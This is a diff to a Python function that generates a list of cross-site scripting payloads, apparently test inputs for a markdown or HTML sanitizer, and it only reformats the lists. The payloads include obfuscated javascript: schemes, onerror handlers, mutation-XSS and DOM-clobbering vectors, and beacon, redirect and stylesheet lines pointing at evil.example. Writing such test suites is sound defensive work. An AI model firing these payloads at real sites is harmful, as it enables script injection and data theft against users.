@@ -29,9 +29,10 @@ def payloads() -> Sequence[str]:
         for inner in ("mtext", "style", "p", "mglyph")
     ]
     schemes = [
-        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:",
-        "data:text/html,<script>", "vbscript:", "view-source:javascript:", "javascript://%0a", "feed:javascript:", "blob:", "file:///", "jar:javascript:",
-    ]  # fmt: skip
+        *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;"),
+        *("&#106;avascript:", "data:text/html,<script>", "vbscript:", "view-source:javascript:", "javascript://%0a", "feed:javascript:"),
+        *("blob:", "file:///", "jar:javascript:"),
+    ]
     for scheme in schemes:
         made += [
             f"[w]({scheme}{RUN})",
@@ -41,14 +42,29 @@ def payloads() -> Sequence[str]:
             f'<a href="{scheme}{RUN}">w</a>',
         ]
     made += [
-        f'[w](https://a.example "onmouseover={RUN}")', f'![w"onerror="{RUN}](x)', f"[w]: javascript:{RUN}\n[w]", f'`<img src=x onerror={RUN}>`',
-        f"```\n</code></pre><script>{RUN}</script>\n```", f"```<img src=x onerror={RUN}>\nx\n```", f"| <img src=x onerror={RUN}> |\n|---|\n| x |",
-        f"- [ ] <img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>",
-        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", "<a id=x name=getElementById>w</a>", "<form id=app><input name=innerHTML>",
-        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>", f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
-        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
-        "![beacon](https://evil.example/x.png)", "<img src=https://evil.example/y.png>", "<style>@import '//evil.example/z.css'</style>", "\u202e<script>\u202c",
-    ]  # fmt: skip
+        f'[w](https://a.example "onmouseover={RUN}")',
+        f'![w"onerror="{RUN}](x)',
+        f"[w]: javascript:{RUN}\n[w]",
+        f"`<img src=x onerror={RUN}>`",
+        f"```\n</code></pre><script>{RUN}</script>\n```",
+        f"```<img src=x onerror={RUN}>\nx\n```",
+        f"| <img src=x onerror={RUN}> |\n|---|\n| x |",
+        f"- [ ] <img src=x onerror={RUN}>",
+        f"<!--><img src=x onerror={RUN}>-->",
+        f"<![CDATA[><img src=x onerror={RUN}>]]>",
+        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+        "<a id=x name=getElementById>w</a>",
+        "<form id=app><input name=innerHTML>",
+        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
+        f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
+        "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "![beacon](https://evil.example/x.png)",
+        "<img src=https://evil.example/y.png>",
+        "<style>@import '//evil.example/z.css'</style>",
+        "\u202e<script>\u202c",
+    ]
     return made
 
 
